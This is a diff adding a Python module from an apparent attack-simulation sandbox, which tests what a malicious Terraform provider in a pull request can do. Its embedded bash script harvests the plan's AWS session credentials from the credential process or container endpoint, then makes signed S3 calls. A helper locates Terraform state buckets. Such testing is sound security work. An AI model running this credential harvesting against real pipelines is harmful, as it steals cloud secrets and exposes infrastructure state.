@@ -1,0 +1,41 @@
+"""Calls of S3 that a pull request's provider makes with the plan's own AWS session."""
+
+import re
+from collections.abc import Mapping
+
+from sandbox.attack.provider import printed
+from sandbox.attack.target import Target
+
+__all__ = ["called", "state_bucket"]
+
+_SCRIPT = """
+if [ -n "$AWS_CONFIG_FILE" ]; then
+  session=$(sh -c "$(sed -n 's/^credential_process *= *//p' "$AWS_CONFIG_FILE")")
+else
+  session=$(curl -sS "$AWS_CONTAINER_CREDENTIALS_FULL_URI")
+fi
+field() {{ echo "$session" | tr ',{{}}' '\\n' | sed -n "s/^ *\\"$1\\": *\\"\\(.*\\)\\".*/\\1/p"; }}
+token=$(field SessionToken)
+# The repository of this pull request, as owner/name.
+own=$(echo "${{PWD#*/repos/}}" | cut -d/ -f1-2)
+call() {{
+  curl -sS -o /dev/null -w "$1 %{{http_code}}\\n" --aws-sigv4 "aws:amz:$AWS_REGION:s3" \\
+    --user "$(field AccessKeyId):$(field SecretAccessKey)" -H "x-amz-security-token: ${{token:-$(field Token)}}" "${{@:2}}"
+}}
+{calls}
+"""
+
+
+def called(target: Target, name: str, calls: Mapping[str, str]) -> dict[str, int]:
+    """The HTTP status of each call, by its label. A call is the arguments of curl; `$own` is the pull request's repository."""
+    script = _SCRIPT.format(calls="\n".join(f"call {label} {arguments}" for label, arguments in calls.items()))
+    said = printed(target, name, f"bash <<'BASH'\n{script.strip()}\nBASH")
+    found = {label: int(status) for label, status in re.findall(r"^(\S+) (\d+)$", said, re.MULTILINE)}
+    if found.keys() != calls.keys():
+        raise RuntimeError(f"the provider called {sorted(found)}: {said[:300]}")
+    return found
+
+
+def state_bucket(target: Target) -> str:
+    """The first bucket with Terraform's states."""
+    return next(item["Name"] for item in target.client("s3").list_buckets()["Buckets"] if "state" in item["Name"])
